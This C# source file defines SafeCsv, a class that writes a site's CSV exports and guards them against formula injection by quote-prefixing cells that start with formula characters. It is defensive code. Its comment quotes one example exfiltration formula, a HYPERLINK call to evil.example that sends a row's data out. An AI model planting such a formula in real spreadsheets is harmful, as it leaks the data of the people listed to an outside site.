using System.Globalization;
using System.Text;
using CsvHelper;

namespace Masthead.Site;

/// <summary>The one way Masthead writes CSV. Every export — subscribers, members, and whatever comes later
/// (event registrations, analytics downloads) — must write its cells through this class, never through a bare
/// CsvWriter or string concatenation: the files are opened in spreadsheets, and a cell a reader or staff member
/// typed that starts with <c>=</c>, <c>+</c>, <c>-</c>, <c>@</c>, tab or CR is run there as a formula (CSV
/// injection: <c>=HYPERLINK("http://evil.example/?"&amp;A2,"Click")</c> sends the row to another site).
/// As OWASP recommends, such a cell gets one leading single quote, which spreadsheets show as text; CsvHelper
/// quotes cells as RFC 4180 requires (commas, quotes, line breaks). Readers of our own files undo the prefix
/// with <see cref="Unescape"/>, so an export imported again gives back the original text.</summary>
public sealed class SafeCsv(TextWriter output) : IAsyncDisposable
{
    /// <summary>First characters a spreadsheet treats as the start of a formula.</summary>
    private static readonly char[] Dangerous = ['=', '+', '-', '@', '\t', '\r'];
    private const char Prefix = '\'';

    private readonly CsvWriter _csv = new(output, CultureInfo.InvariantCulture, leaveOpen: true);

    /// <summary>The cell as written: a dangerous first character gets the quote prefix.</summary>
    public static string Neutralise(string? value) =>
        string.IsNullOrEmpty(value) || Array.IndexOf(Dangerous, value[0]) < 0 ? value ?? "" : Prefix + value;

    /// <summary>Undoes <see cref="Neutralise"/>: strips one leading quote only when a dangerous character follows
    /// it, so a name that really starts with a quote (O'Brien's 'Desk') is left alone.</summary>
    public static string? Unescape(string? cell) =>
        cell is { Length: >= 2 } && cell[0] == Prefix && Array.IndexOf(Dangerous, cell[1]) >= 0 ? cell[1..] : cell;

    public Task WriteRowAsync(params IEnumerable<string?> cells)
    {
        foreach (var cell in cells) _csv.WriteField(Neutralise(cell));
        return _csv.NextRecordAsync();
    }

    /// <summary>A timestamp cell in the format every export uses (UTC, ISO 8601, seconds).</summary>
    public static string Time(DateTime? utc) =>
        utc?.ToString("yyyy-MM-ddTHH:mm:ssZ", CultureInfo.InvariantCulture) ?? "";

    public Task FlushAsync() => _csv.FlushAsync();

    /// <summary>Streams an export to the browser as a CSV download named <paramref name="fileName"/>.</summary>
    public static async Task DownloadAsync(HttpResponse response, string fileName, Func<TextWriter, Task> write, CancellationToken ct)
    {
        response.ContentType = "text/csv; charset=utf-8";
        response.Headers.ContentDisposition = $"attachment; filename=\"{fileName}\"";
        await using var writer = new StreamWriter(response.Body, new UTF8Encoding(false), leaveOpen: true);
        await write(writer);
        await writer.FlushAsync(ct);
    }

    public ValueTask DisposeAsync() => _csv.DisposeAsync();
}
